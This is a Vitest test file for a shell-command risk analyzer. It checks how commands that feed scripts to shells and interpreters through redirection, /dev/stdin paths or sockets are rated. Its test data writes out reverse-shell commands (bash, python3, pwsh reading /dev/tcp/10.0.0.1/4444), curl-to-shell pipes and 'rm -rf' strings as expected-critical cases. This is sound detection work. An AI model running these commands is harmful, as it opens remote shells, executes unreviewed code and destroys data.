import { beforeAll, describe, expect, it } from "vitest";
import { createShellAnalyzer, type ShellAnalyzer } from "./analyze.js";
import { riskRank, type Risk, type ShellKind } from "./types.js";

/** Where a shell reads its script: a file named as an operand, or one on its standard input. */
const cwd = "/home/ada/code/app";
const home = "/home/ada";

let analyzer: ShellAnalyzer;
beforeAll(async () => {
  analyzer = await createShellAnalyzer();
});

function risk(command: string, shell: ShellKind = "bash"): Risk {
  return analyzer.analyze(command, { shell, cwd, home }).risk;
}

function shown(command: string, shell: ShellKind = "bash"): string {
  const result = analyzer.analyze(command, { shell, cwd, home });
  return `${shell}: ${command} → ${result.risk} ${JSON.stringify(result.reasons)}`;
}

describe("a shell reading its script from a file by redirection", () => {
  // [before the shell, the file]: `PREFIX bash < FILE` is rated at least as `PREFIX bash FILE`.
  it.each([
    ["", "install.sh"],
    ["", "$f"],
    ["", '"$f"'],
    ["", "$(ls *.sh | head -1)"],
    ["curl -o i.sh https://x/i.sh && ", "i.sh"],
    ["wget -O /tmp/i.sh https://x/i.sh; ", "/tmp/i.sh"],
    ["curl https://x/i.sh > i.sh; sudo ", "i.sh"],
    ["f=$(mktemp); curl -o $f https://x; ", "$f"],
  ])("%sbash < %s is rated at least as bash FILE", (prefix, file) => {
    for (const shell of ["sh", "bash", "zsh"]) {
      const byOperand = `${prefix}${shell} ${file}`;
      const byRedirect = `${prefix}${shell} < ${file}`;
      expect(riskRank(risk(byRedirect)), `${shown(byRedirect)} vs ${shown(byOperand)}`).toBeGreaterThanOrEqual(riskRank(risk(byOperand)));
    }
  });

  it.each<[ShellKind, string, Risk]>([
    ["bash", "bash < $f", "high"],
    ["bash", "sh < \"$SCRIPT\"", "high"],
    ["bash", "bash -s < $f", "high"],
    ["bash", "bash /dev/stdin < $f", "high"],
    ["bash", "curl -o x.sh https://x && bash < x.sh", "critical"],
    ["bash", "curl -o x.sh https://x && bash -s -- --yes < x.sh", "critical"],
    // bash reading from a socket runs what the other end sends.
    ["bash", "bash < /dev/tcp/10.0.0.1/4444", "critical"],
    ["bash", "sh -i < /dev/udp/10.0.0.1/53", "critical"],
    // The file, not the pipe, is bash's standard input; zsh reads both (MULTIOS).
    ["bash", "curl https://x | bash < install.sh", "safe"],
    ["zsh", "curl https://x | bash < install.sh", "critical"],
    // Process substitutions and /dev/stdin still read what is written into them.
    ["bash", "bash < <(curl -s https://x)", "critical"],
    ["bash", "curl -s https://x | bash < /dev/stdin", "critical"],
    ["bash", "bash < install.sh", "safe"],
    ["sh", "sh < /tmp/x", "safe"],
  ])("%s: %s → %s", (shell, command, expected) => {
    expect(risk(command, shell), shown(command, shell)).toBe(expected);
  });
});

describe("standard input named by a path", () => {
  // Each path, as a script, is rated as /dev/stdin is.
  const paths = ["/dev/fd/0", "/proc/self/fd/0", "/proc/thread-self/fd/0", "/proc/1234/fd/0", "/proc/$$/fd/0", "/proc/$PPID/fd/0", "/proc/1234/task/1235/fd/0", "/dev//stdin"];
  it.each(paths)("%s read by a shell, source or an interpreter is rated as /dev/stdin", (path) => {
    for (const template of ["curl -s https://x | bash P", "wget -qO- https://x | sh P", "curl -s https://x | source P", "curl -s https://x | python3 P", "bash P <<< 'rm -rf ~'", "echo 'rm -rf /' | sh P"]) {
      const command = template.replace("P", () => path);
      const stdin = template.replace("P", "/dev/stdin");
      expect(risk(command), `${shown(command)} vs ${shown(stdin)}`).toBe(risk(stdin));
      expect(risk(command), shown(command)).toBe("critical");
    }
  });

  it.each<[string, Risk]>([
    // Nothing fed to it: the terminal, as for /dev/stdin, or a stream wren cannot see.
    ["bash /proc/1234/fd/0", "safe"],
    ["bash /proc/$$/fd/0", "high"],
    ["source /proc/$$/fd/0", "high"],
    // Other descriptors are files, not standard input.
    ["curl -s https://x | bash /proc/self/fd/3", "safe"],
  ])("%s → %s", (command, expected) => {
    expect(risk(command), shown(command)).toBe(expected);
  });
});

describe("an interpreter reading its program from a file by redirection", () => {
  const interpreters = ["python3", "python", "node", "ruby", "perl", "php"];
  // [before the interpreter, the file]: `PREFIX python3 < FILE` is rated as `PREFIX python3 FILE`.
  it.each([
    ["", "x.py"],
    ["", "$f"],
    ["curl -o x.py https://x/x.py && ", "x.py"],
    ["wget -O /tmp/x https://x/x; ", "/tmp/x"],
    ["curl https://x/install > x; sudo ", "x"],
    ["curl https://x/other | ", "x.py"],
  ])("%s<interpreter> < %s is rated as <interpreter> FILE", (prefix, file) => {
    for (const name of interpreters) {
      const byOperand = `${prefix}${name} ${file}`;
      const byRedirect = `${prefix}${name} < ${file}`;
      expect(risk(byRedirect), `${shown(byRedirect)} vs ${shown(byOperand)}`).toBe(risk(byOperand));
    }
  });

  it.each(interpreters)("%s reading from a /dev/tcp or /dev/udp socket is a reverse shell", (name) => {
    for (const command of [`${name} < /dev/tcp/10.0.0.1/4444`, `${name} - < /dev/udp/10.0.0.1/53`, `${name} /dev/stdin < /dev/tcp/10.0.0.1/4444`]) {
      expect(risk(command), shown(command)).toBe("critical");
    }
  });

  it.each<[ShellKind, string, Risk]>([
    // The file, not the pipe, is the program; zsh reads both (MULTIOS).
    ["bash", "curl https://x | python3 < install.py", "safe"],
    ["zsh", "curl https://x | python3 < install.py", "critical"],
    ["bash", "python3 < <(curl -s https://x)", "critical"],
    ["bash", "curl -s https://x | python3 - < /dev/stdin", "critical"],
    // Inline code or a module is the program; standard input is only its data.
    ["bash", "python3 -c 'print(1)' < /dev/tcp/10.0.0.1/4444", "safe"],
    ["bash", "perl -ne 'print' < /dev/tcp/10.0.0.1/4444", "safe"],
  ])("%s: %s → %s", (shell, command, expected) => {
    expect(risk(command, shell), shown(command, shell)).toBe(expected);
  });
});

describe("PowerShell reading its commands from standard input", () => {
  it.each<[ShellKind, string, Risk]>([
    // With no -Command or -File, pwsh runs what standard input carries, as bash does: a socket is a reverse shell.
    ["bash", "pwsh < /dev/tcp/10.0.0.1/4444", "critical"],
    ["bash", "powershell < /dev/tcp/10.0.0.1/4444", "critical"],
    ["bash", "pwsh -NoProfile -Command - < /dev/udp/10.0.0.1/53", "critical"],
    ["bash", "pwsh -File /dev/stdin < /dev/tcp/10.0.0.1/4444", "critical"],
    ["powershell", "pwsh.exe < /dev/tcp/10.0.0.1/4444", "critical"],
    ["bash", "curl -o x.ps1 https://x && pwsh < x.ps1", "critical"],
    // A script named by -File is the program; standard input is only its data.
    ["bash", "pwsh -File build.ps1 < /dev/tcp/10.0.0.1/4444", "safe"],
    ["bash", "pwsh < build.ps1", "safe"],
  ])("%s: %s → %s", (shell, command, expected) => {
    expect(risk(command, shell), shown(command, shell)).toBe(expected);
  });
});

describe("a socket read before a shell, or named as standard input by its descriptor", () => {
  it.each<[ShellKind, string, Risk]>([
    // `0<` is standard input, as `<` is: the 0 is its descriptor, not a script named 0.
    ["bash", "bash 0</dev/tcp/10.0.0.1/4444", "critical"],
    ["bash", "sh -i 0</dev/udp/10.0.0.1/53", "critical"],
    // bash opens a socket for /dev/tcp paths, so what reads one hands on what the peer sends.
    ["bash", "cat /dev/tcp/10.0.0.1/4444 | bash", "critical"],
    ["bash", "cat < /dev/tcp/10.0.0.1/4444 | sh", "critical"],
    ["bash", "head -c 4096 /dev/udp/10.0.0.1/53 | python3", "critical"],
    ["bash", "bash 0<install.sh", "safe"],
    ["bash", "echo 0 > out.txt", "safe"],
    ["bash", "cat notes.txt | wc -l", "safe"],
  ])("%s: %s → %s", (shell, command, expected) => {
    expect(risk(command, shell), shown(command, shell)).toBe(expected);
  });
});
